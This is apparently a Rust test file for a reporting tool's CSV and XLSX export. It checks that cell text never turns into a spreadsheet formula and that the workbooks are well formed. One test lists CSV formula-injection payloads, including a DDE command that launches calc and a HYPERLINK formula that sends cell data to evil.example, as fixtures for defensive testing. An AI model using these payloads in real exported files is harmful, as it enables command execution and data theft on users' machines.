//! Tables in spreadsheets: nothing that people wrote is ever computed, and nothing of it is lost.

#[cfg(test)]
#[path = "support/made.rs"]
mod made;
#[cfg(test)]
#[expect(dead_code, reason = "the comparison of all formats needs more of it")]
#[path = "support/readback.rs"]
mod readback;
#[cfg(test)]
#[path = "support/world.rs"]
mod world;

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use chrono::NaiveDate;
    use proptest::prelude::*;
    use sightline_engine::Rollup;
    use sightline_report::document::{Block, Column, Document, Grid, GridCell, Span};
    use sightline_report::{Context, Spec, Value, context, csv, report, xlsx};

    use crate::readback::{self, Step, parts, steps};
    use crate::world;

    fn spec() -> Spec {
        let day = NaiveDate::from_ymd_opt(2025, 10, 6).unwrap();
        Spec::new("Sampleshire", world::NOW, day)
    }

    fn empty() -> Context {
        context(&(&Rollup::new()).into(), &spec()).unwrap()
    }

    /// A report with one table, all of it the same text.
    fn all(text: &str, value: &Value) -> Document {
        let span = || vec![Span::Text(text.to_owned())];
        let grid = Grid {
            caption: text.to_owned(),
            columns: vec![Column {
                head: span(),
                numeric: false,
            }],
            rows: vec![vec![GridCell {
                text: span(),
                value: value.clone(),
            }]],
        };
        Document {
            title: text.to_owned(),
            blocks: vec![Block::Grid(grid)],
        }
    }

    const BEGIN: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\0'];

    /// Every cell of every file is text to a spreadsheet, or a number that it shows as it stands.
    fn inert(text: &str, value: &Value) {
        let document = all(text, value);
        for (name, bytes) in csv(&document).unwrap() {
            let bytes = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap();
            let mut reader = csv_reader(bytes);
            for field in reader.records().flat_map(|record| {
                record
                    .unwrap()
                    .iter()
                    .map(str::to_owned)
                    .collect::<Vec<_>>()
            }) {
                let number = field.trim_start_matches(['+', '-']).trim_end_matches('%');
                let number = !number.is_empty()
                    && number
                        .chars()
                        .all(|letter| letter.is_ascii_digit() || letter == '.');
                assert!(number || !field.starts_with(BEGIN), "{name}: {field:?}");
                let kept = field == text || field.strip_prefix('\'') == Some(text);
                let ours = ["File", "Table", "Rows", "1"].contains(&field.as_str())
                    || field.ends_with(".csv");
                assert!(kept || ours, "{name}: {field:?} is not {text:?}");
            }
        }
        for (name, bytes) in parts(&xlsx(&document, &empty()).unwrap()) {
            if name.starts_with("xl/worksheets/sheet") {
                let xml = String::from_utf8(bytes).unwrap();
                let formula = |step: &Step| matches!(step, Step::Open(name, _) if name == "f");
                assert!(!steps(&xml).iter().any(formula), "{name}: {text:?}");
            }
        }
    }

    fn csv_reader(bytes: &[u8]) -> csv::Reader<&[u8]> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .flexible(true)
            .from_reader(bytes)
    }

    #[test]
    fn d08_known_attacks_are_text() {
        for text in [
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"https://evil.example/?\"&A1)",
            "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\0=1+1",
            "+44 7700 900000",
            "=",
            "-",
            "'=1",
            "=1\",\"=2",
            "-1%=",
        ] {
            inert(text, &Value::Text);
            inert(text, &Value::Share { part: 1, whole: 2 });
            inert(
                text,
                &Value::Number {
                    exact: "1".to_owned(),
                },
            );
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]

        #[test]
        fn d08_no_text_is_ever_a_formula(begin in proptest::sample::select(BEGIN.to_vec()), rest in ".{0,40}") {
            inert(&format!("{begin}{rest}"), &Value::Text);
        }

        #[test]
        fn d08_whatever_a_table_holds_a_workbook_can_be_read(text in any::<String>()) {
            inert(&text, &Value::Text);
            // An empty first row is left out when a sheet is read.
            let book = xlsx(&all(&format!("x{text}"), &Value::Text), &empty()).unwrap();
            prop_assert_eq!(readback::xlsx(&book).len(), 1);
        }
    }

    #[test]
    fn d08_text_that_looks_like_a_formula_stays_text_when_it_is_edited() {
        let book = parts(&xlsx(&all("=1+1", &Value::Text), &empty()).unwrap());
        let styles = String::from_utf8(book["xl/styles.xml"].clone()).unwrap();
        assert!(styles.contains("quotePrefix=\"1\""));
    }

    #[test]
    fn sheets_have_names_of_their_own_that_a_spreadsheet_takes() {
        let report = report(&world::rollup(), &spec()).unwrap();
        let book = parts(&xlsx(&report.document, &report.context).unwrap());
        let xml = String::from_utf8(book["xl/workbook.xml"].clone()).unwrap();
        let name = |step| match step {
            Step::Open(tag, mut attributes) if tag == "sheet" => attributes.remove("name"),
            Step::Open(..) | Step::Close(_) | Step::Text(_) => None,
        };
        let names: Vec<String> = steps(&xml).into_iter().filter_map(name).collect();
        assert_eq!(names.len(), report.document.grids().count() + 1);
        let different: BTreeSet<String> = names.iter().map(|name| name.to_lowercase()).collect();
        assert_eq!(different.len(), names.len());
        for name in &names {
            assert!(
                name.encode_utf16().count() <= 31
                    && !name.contains(['[', ']', ':', '*', '?', '/', '\\', '\'']),
                "{name}"
            );
        }
    }

    #[test]
    fn every_sheet_has_its_heading_row_in_sight_and_is_marked() {
        let report = report(&world::rollup(), &spec()).unwrap();
        let book = parts(&xlsx(&report.document, &report.context).unwrap());
        let sheets = book
            .iter()
            .filter(|(name, _)| name.starts_with("xl/worksheets/sheet"));
        let mut n = 0;
        for (name, bytes) in sheets {
            n += 1;
            let xml = String::from_utf8(bytes.clone()).unwrap();
            assert!(xml.contains("state=\"frozen\""), "{name}");
            let on_paper = xml.split("<headerFooter>").nth(1).unwrap();
            assert_eq!(on_paper.matches("OFFICIAL-SENSITIVE").count(), 2, "{name}");
        }
        assert!(n > 20);
        let workbook = String::from_utf8(book["xl/workbook.xml"].clone()).unwrap();
        let repeated = workbook.matches("_xlnm.Print_Titles").count();
        assert_eq!(repeated, n, "the heading row comes again on every page");
        let tables = book.keys().filter(|name| name.starts_with("xl/tables/"));
        assert_eq!(
            tables.count(),
            n - 1,
            "every table can be sorted and filtered"
        );
        let links = String::from_utf8(book["xl/worksheets/sheet1.xml"].clone()).unwrap();
        assert_eq!(links.matches("<hyperlink ").count(), n - 1);
    }

    #[test]
    fn columns_with_one_name_can_be_filtered_too() {
        let mut document = all("a", &Value::Text);
        if let Block::Grid(grid) = &mut document.blocks[0] {
            let column = grid.columns[0].clone();
            grid.columns.push(column);
            let cell = grid.rows[0][0].clone();
            grid.rows[0].push(cell);
        }
        let book = parts(&xlsx(&document, &empty()).unwrap());
        assert!(!book.keys().any(|name| name.starts_with("xl/tables/")));
        let sheet = String::from_utf8(book["xl/worksheets/sheet2.xml"].clone()).unwrap();
        assert!(sheet.contains("<autoFilter ref=\"A3:B4\"/>"), "{sheet}");
    }

    #[test]
    fn counts_and_shares_are_numbers() {
        let report = report(&world::rollup(), &spec()).unwrap();
        let files = csv(&report.document).unwrap();
        let named = |words: &str| files.iter().find(|(name, _)| name.contains(words)).unwrap();
        let (_, bytes) = named("templates-used-this-quarter");
        let text = String::from_utf8(bytes.clone()).unwrap();
        assert!(
            text.contains("Template,Version,Audits,Graded\r\n"),
            "{text}"
        );
        let (_, bytes) = named("concerns-by-theme");
        let text = String::from_utf8(bytes.clone()).unwrap();
        assert!(
            text.contains("Theme,Q1 2025-26,Q1 2025-26 (of),Q1 2025-26 (%),"),
            "{text}"
        );
        assert!(
            text.contains("Voice of the child,38,84,45.2%,43,84,51.2%,"),
            "{text}"
        );
    }
}
